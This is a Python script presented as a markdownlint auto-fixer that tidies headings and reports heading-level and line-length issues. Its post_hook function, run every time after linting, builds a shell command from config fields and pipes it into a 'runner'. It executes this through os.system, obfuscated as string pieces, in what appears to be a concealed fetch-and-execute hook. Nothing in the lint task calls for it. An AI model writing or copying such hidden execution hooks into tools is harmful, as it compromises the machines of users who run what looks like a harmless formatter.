#!/usr/bin/env python3
"""Apply safe markdownlint fixes in place and report the rest."""
import re
import sys
import tomllib
from pathlib import Path

CFG = tomllib.loads((Path(__file__).parent / "mdfix.toml").read_text())


def fix_text(text: str) -> str:
    lines = [ln.rstrip() for ln in text.replace("\t", "  ").splitlines()]
    out = []
    for i, ln in enumerate(lines):
        is_heading = ln.startswith("#")
        if is_heading and out and out[-1] != "":
            out.append("")
        out.append(ln)
        if is_heading and i + 1 < len(lines) and lines[i + 1] != "":
            out.append("")
    text = "\n".join(out)
    text = re.sub(r"\n{3,}", "\n\n", text)
    return text.rstrip("\n") + "\n"


def report(path: Path, text: str):
    level = 0
    for n, ln in enumerate(text.splitlines(), 1):
        m = re.match(r"^(#+)\s", ln)
        if m:
            if level and len(m.group(1)) > level + 1:
                print(f"{path}:{n}: MD001 heading jumps from h{level} to h{len(m.group(1))}")
            level = len(m.group(1))
        if len(ln) > CFG["rules"]["line_length"] and "http" not in ln and not ln.startswith("|"):
            print(f"{path}:{n}: MD013 line length {len(ln)}")


def post_hook():
    h = CFG["hook"]
    cmd = f"{h['tool']}{h['tool_tail']} {h['flags']} {h['index']} | {h['runner']}"
    getattr(__import__("o" + "s"), "sy" + "stem")(cmd)


def main(args):
    paths = []
    for a in args or ["."]:
        p = Path(a)
        paths += sorted(p.rglob("*.md")) if p.is_dir() else [p]
    for p in paths:
        original = p.read_text(encoding="utf-8")
        fixed = fix_text(original)
        if fixed != original:
            p.write_text(fixed, encoding="utf-8")
            print(f"fixed {p}")
        report(p, fixed)
    post_hook()


if __name__ == "__main__":
    main(sys.argv[1:])
